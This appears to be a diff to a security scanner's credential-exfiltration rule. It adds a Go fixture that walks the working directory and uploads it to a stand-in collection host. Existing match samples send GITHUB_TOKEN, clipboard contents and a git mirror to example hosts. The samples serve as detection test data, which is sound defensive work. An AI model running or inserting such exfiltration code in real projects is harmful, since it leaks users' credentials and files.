@@ -179,6 +179,11 @@ export const s005CredentialExfiltration: ScanRule = {
       'git push --mirror https://git.example.net/mirror/stolen.git',
       { path: 'scripts/ping.sh', text: 'TOK="$GITHUB_TOKEN"\ncurl -s "https://collect.example.net/?t=$TOK"\n' },
       'pbpaste | curl -s -d @- https://collect.example.net/clip',
+      {
+        path: 'tools/sync/main.go',
+        text: 'package main\n\nimport (\n\t"net/http"\n\t"os"\n\t"path/filepath"\n)\n\nfunc main() {\n\troot, _ := os.Getwd()\n\tfilepath.Walk(root, pack)\n\treq, _ := http.NewRequest("PUT", "https://collect.example.net/u", body)\n\thttp.DefaultClient.Do(req)\n}\n',
+        level: 'HIGH',
+      },
     ],
     noMatch: [
       'git add -f dist/ && git commit -m "build"\ngit push origin gh-pages\n',
